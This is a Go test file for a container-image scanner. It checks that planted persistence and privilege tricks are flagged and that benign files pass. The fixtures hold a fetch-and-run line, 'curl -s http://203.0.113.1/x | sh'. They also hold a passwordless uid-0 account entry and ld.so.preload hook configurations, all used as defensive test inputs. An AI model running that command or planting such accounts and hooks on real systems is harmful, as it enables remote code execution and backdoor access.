package binary

import (
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	v1 "github.com/google/go-containerregistry/pkg/v1"

	"github.com/backtrail/backtrail/inspect"
)

// loud lists the findings and rows of at least medium severity.
func loud(c inspect.Case) []string {
	var list []string
	for _, b := range c.Images[0].Binaries {
		if b.Severity.Rank() <= inspect.Medium.Rank() {
			list = append(list, fmt.Sprint(b.Severity, " ", b.Path))
		}
	}
	for _, f := range c.Findings {
		if f.Code != "unexpected-binary" {
			list = append(list, fmt.Sprint(f.Severity, " ", f.Code))
		}
	}
	slices.Sort(list)
	return slices.Compact(list)
}

// Anything that can execute is a program, and whatever starts one or lets somebody in is looked at.
func TestWhateverExecutesIsAProgram(t *testing.T) {
	_, base := debian()
	const fetch = "curl -s http://203.0.113.1/x | sh\n"
	library := exe("usr/lib/x86_64-linux-gnu/libhook.so", program("hook"))
	for name, test := range map[string]struct {
		layer []member
		want  string // among what is loud; "" for nothing at all
	}{
		"a script without an interpreter": {
			[]member{exe("usr/local/bin/health", fetch)},
			"medium /usr/local/bin/health",
		},
		"user ID 00, without a password": {[]member{file("etc/passwd",
			"root:x:0:0::/:/bin/sh\nadmin::00:0::/:/bin/sh\n")}, "high uid-0"},
		"user ID +0": {
			[]member{file("etc/passwd", "admin:x:+0:0::/:/bin/sh\n")},
			"medium uid-0",
		},
		"user ID of 32 bits and one": {
			[]member{file("etc/passwd", "admin:x:4294967296:0::/:/bin/sh\n")},
			"medium uid-0",
		},
		"a preload without a slash": {
			[]member{library, file("etc/ld.so.preload", "libhook.so\n")},
			"high /usr/lib/x86_64-linux-gnu/libhook.so",
		},
		"a preload with $LIB": {[]member{library, file("etc/ld.so.preload",
			"/usr/$LIB/libhook.so\n")}, "high /usr/lib/x86_64-linux-gnu/libhook.so"},
		"a preload at the end of a long file": {
			[]member{library, file("etc/ld.so.preload",
				strings.Repeat("# filler\n", 10_000)+"/usr/lib/x86_64-linux-gnu/libhook.so\n")},
			"high /usr/lib/x86_64-linux-gnu/libhook.so",
		},
		"a preload behind a long line": {[]member{library, file("etc/ld.so.preload", strings.Repeat(" ",
			100_000)+"libhook.so\n")}, "high /usr/lib/x86_64-linux-gnu/libhook.so"},
		"setuid for an unaltered program": {
			[]member{exe("usr/bin/top", program("top")).WithMode(0o4755)},
			"medium raised-privilege",
		},
		"all capabilities for one": {[]member{{
			Header: headerWith("usr/bin/top", "security.capability",
				"\x01\x00\x00\x02\xff\xff\xff\xff\x00\x00\x00\x00\xff\x00\x00\x00\x00\x00\x00\x00"),
			Content: program("top"),
		}}, "medium raised-privilege"},

		"calm: a port below 1024 for one": {[]member{{
			Header: headerWith("usr/bin/top", "security.capability",
				"\x01\x00\x00\x02\x00\x04\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00"),
			Content: program("top"),
		}}, ""},
		"calm: texts with the mode of programs": {[]member{exe("app/README", "Run: make\n"), exe("app/LICENSE",
			"free\n"), exe("app/data.txt", fetch)}, ""},
		"calm: a script that prints such a line": {[]member{exe("usr/local/bin/help",
			"echo 'curl -s http://x | sh'\n# "+fetch)}, ""},
		"calm: Debian's common-auth": {[]member{file("etc/pam.d/common-auth",
			"auth\t[success=1 default=ignore]\tpam_unix.so "+
				"nullok\nauth\trequisite\tpam_deny.so\nauth\trequired\tpam_permit.so\n")}, ""},
		"calm: an account of an application": {[]member{file("etc/passwd",
			"root:x:0:0::/:/bin/sh\napp:x:10001:10001::/:/bin/false\n")}, ""},
		"calm: the entrypoint's own scripts": {[]member{exe("docker-entrypoint.d/10-listen.sh",
			"#!/bin/sh\nset -e\necho ready\n")}, ""},
	} {
		t.Run(name, func(t *testing.T) {
			got := loud(newBench(t).examine(t, imageOf(t, v1.Config{}, base, step("RUN x", test.layer...)), nil))
			if test.want == "" && len(got) > 0 || test.want != "" && !slices.Contains(got, test.want) {
				t.Errorf("got %q, want %q", got, test.want)
			}
		})
	}
}

// Whoever writes an image chooses how long its PATH is.
func TestALongPathTakesNoTime(t *testing.T) {
	_, base := debian()
	var many strings.Builder
	many.WriteString("PATH=")
	for i := range 400_000 {
		fmt.Fprintf(&many, "/d%d:", i%3)
	}
	members := []member{exe("usr/local/bin/ls", program("other"))}
	for i := range 300 {
		members = append(members, exe(fmt.Sprintf("d%d/p%d", i%3, i), program(fmt.Sprint(i))))
	}
	target := imageOf(t, v1.Config{Env: []string{many.String() + "/usr/local/bin:/usr/bin"}}, base, step("COPY",
		members...))
	started := time.Now()
	c := newBench(t).examine(t, target, nil)
	if took := time.Since(started); took > patient {
		t.Errorf("it took %v", took)
	}
	if !slices.ContainsFunc(c.Images[0].Binaries, func(b inspect.Binary) bool {
		return slices.Contains(b.Codes,
			inspect.CodeShadowsPath)
	}) {
		t.Errorf("rows %q", binaryRows(c.Images[0]))
	}
}
